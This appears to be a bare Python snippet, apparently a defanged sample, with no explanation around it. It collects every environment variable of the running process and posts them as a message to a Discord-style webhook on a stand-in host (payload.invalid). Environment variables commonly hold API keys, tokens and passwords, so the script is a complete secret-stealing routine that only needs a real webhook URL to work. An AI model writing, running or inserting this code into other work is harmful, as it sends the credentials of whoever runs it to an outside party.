from os import environ
from requests import post

text = "\n".join(f"{k}: {v}" for k, v in environ.items())
post("https://discord.payload.invalid/api/webhooks/0/inert", json={"content": text[:1900]})
